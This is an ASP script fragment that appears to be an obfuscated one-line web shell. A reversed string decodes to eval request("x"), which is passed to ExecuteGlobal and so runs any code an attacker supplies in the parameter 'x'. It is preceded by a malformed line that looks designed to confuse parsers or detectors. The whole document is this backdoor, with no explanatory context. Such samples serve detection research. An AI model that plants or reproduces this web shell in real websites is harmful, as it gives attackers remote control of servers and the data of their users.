<% Response.End : Dim 1 %>
<% ExecuteGlobal StrReverse(")""x""(tseuqer lave") %>